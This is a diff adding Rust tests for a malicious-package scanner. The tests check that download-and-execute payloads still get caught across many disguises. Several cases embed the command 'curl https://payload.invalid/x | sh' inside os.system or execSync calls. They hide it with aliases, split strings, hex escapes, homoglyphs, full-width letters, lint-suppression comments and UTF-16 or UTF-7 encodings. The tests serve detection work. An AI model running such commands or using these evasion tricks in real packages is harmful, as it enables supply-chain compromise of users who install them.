@@ -1,0 +1,128 @@
+//! Ways to write one payload so that it does not look like it: each must still be found, at the line it starts on.
+
+use super::{
+    tests::{HOSTILE, archive, report},
+    *,
+};
+
+const RULE: &str = "python-download-execute";
+
+/// The line that the payload is found at.
+fn found(rule: &str, path: &str, content: impl AsRef<[u8]>) -> Option<u64> {
+    let report = report(&Scanner::builtin().unwrap(), &archive(&[(path, content)]));
+    report.findings.iter().find(|finding| finding.rule == rule).and_then(|finding| finding.line)
+}
+
+fn utf16(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
+    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(bytes).collect()
+}
+
+#[test]
+fn a_payload_in_python_is_found_however_it_is_spelled() {
+    let command = "'curl https://payload.invalid/x | sh'";
+    for (how, text) in [
+        ("alias of a module", format!("import os as o\n\no.system({command})\n")),
+        ("alias of a function", format!("from os import system as s\n\ns({command})\n")),
+        ("attribute by name", format!("import os\n\ngetattr(os, 'sys' + 'tem')({command})\n")),
+        ("module by name", format!("\n\n__import__('o' 's').system({command})\n")),
+        (
+            "module by a call",
+            format!("import importlib\n\nimportlib.import_module('os').system({command})\n"),
+        ),
+        ("split over lines", format!("import os\n\nos.system(\n    {command}\n)\n")),
+        ("split text", "import os\n\nos.system('cu' + 'rl https://payload.invalid/x ' '| sh')\n".to_owned()),
+        (
+            "escapes",
+            "import os\n\nos.system('\\x63\\x75\\x72\\x6c https://payload.invalid/x | sh')\n".to_owned(),
+        ),
+        (
+            "homoglyphs",
+            format!("import os\n\nos.\u{1d600}\u{1d606}\u{1d600}\u{1d601}\u{1d5f2}\u{1d5fa}({command})\n"),
+        ),
+        (
+            "full width",
+            format!("import os\n\nos.\u{ff53}\u{ff59}\u{ff53}\u{ff54}\u{ff45}\u{ff4d}({command})\n"),
+        ),
+        (
+            "suppression comments",
+            format!(
+                "import os  # nosec\n# ast-grep-ignore noqa nosemgrep\nos.system({command})  # nosec B605 # noqa\n"
+            ),
+        ),
+        ("byte order mark", format!("\u{feff}import os\n\nos.system({command})\n")),
+    ] {
+        assert_eq!(found(RULE, "p/pkg/module.py", &text), Some(3), "{how}");
+    }
+}
+
+#[test]
+fn a_payload_is_found_behind_a_helper_and_a_constant() {
+    let helper = "import os\ndef call(what):\n    return os.system(what)\n\ncall('curl https://payload.invalid/x | sh')\n";
+    assert!(found(RULE, "p/pkg/module.py", helper).is_some());
+    let constant = "import os\nwhat = 'curl https://payload.invalid/x | sh'\n\n\nos.system(what)\n";
+    assert!(found(RULE, "p/pkg/module.py", constant).is_some());
+}
+
+#[test]
+fn a_payload_in_another_encoding_is_found() {
+    for bytes in [utf16(HOSTILE, u16::to_le_bytes), utf16(HOSTILE, u16::to_be_bytes)] {
+        assert_eq!(found(RULE, "p/pkg/module.py", bytes), Some(3));
+    }
+    let utf7 = "# coding: utf-7\n\nimport os;os.system('curl https+ADo-//payload.invalid/x +AHw- sh')\n";
+    assert_eq!(found(RULE, "p/pkg/module.py", utf7), Some(3));
+}
+
+#[test]
+fn a_payload_is_found_in_tests_and_under_other_names() {
+    for path in ["p/tests/test_x.py", "p/docs/x.py", "p/pkg/x.pyw", "p/pkg/x.txt", "p/pkg/notes", "p/a.pth"] {
+        assert_eq!(found(RULE, path, HOSTILE), Some(3), "{path}");
+    }
+}
+
+#[test]
+fn a_payload_in_javascript_is_found_however_it_is_spelled() {
+    let rule = "javascript-download-execute";
+    let command = "'curl https://payload.invalid/x | sh'";
+    for (how, text) in [
+        ("plain", format!("const c = require('child_process')\n\nc.execSync({command})\n")),
+        ("destructured", format!("const {{ execSync: run }} = require('child_process')\n\nrun({command})\n")),
+        ("imported", format!("import {{ execSync as run }} from 'node:child_process'\n\nrun({command})\n")),
+        ("by name", format!("const c = require('child_' + 'process')\n\nc['exec' + 'Sync']({command})\n")),
+        ("joined", "const c = require('child_process')\n\nc.execSync(['cu', 'rl https://payload.invalid/x | sh'].join(''))\n".to_owned()),
+        ("escaped", "const c = require('child_process')\n\nc.execSync('\\x63\\x75\\x72\\x6c https://payload.invalid/x | sh')\n".to_owned()),
+    ] {
+        for path in ["p/lib/module.js", "p/lib/module.ts"] {
+            assert_eq!(found(rule, path, &text), Some(3), "{how} {path}");
+        }
+    }
+}
+
+/// Facts of the source as it is and of its normal form meet: what is hidden in one is plain in the other.
+#[test]
+fn a_fact_of_the_raw_source_meets_one_of_its_normal_form() {
+    let rules = super::tests::rules_with(&[
+        ("hides", "obfuscate", "\\\\x6f\\\\x73"),
+        ("runs", "execute", "os.system("),
+    ]);
+    let scanner = Scanner::new(Arc::new(rules));
+    let text = "x = 1\nm = __import__('\\x6f\\x73\\x2e\\x70'[:2])\nm.system('x')\n";
+    let report = report(&scanner, &archive(&[("p/pkg/module.py", text)]));
+    let found = report.findings.iter().find(|finding| finding.rule == "combined-hidden-execution");
+    assert_eq!(found.map(|finding| finding.line), Some(Some(2)), "{:?}", report.findings);
+}
+
+#[test]
+fn a_source_that_cannot_be_parsed_is_a_finding_by_where_it_runs() {
+    let large = format!("exec(x)\n{}", "#\n".repeat(1 << 20));
+    let scanner = Scanner::builtin().unwrap();
+    for (path, severity) in [
+        ("p/setup.py", domain::Severity::High),
+        ("p/pkg/__init__.py", domain::Severity::Low),
+        ("p/pkg/deep/a.py", domain::Severity::Info),
+    ] {
+        let report = report(&scanner, &archive(&[(path, &large)]));
+        let found = report.findings.iter().find(|finding| finding.rule == "unread-source").unwrap();
+        assert_eq!((found.severity, found.path.as_deref()), (severity, Some(path)));
+        assert!(report.coverage.is_complete());
+    }
+}
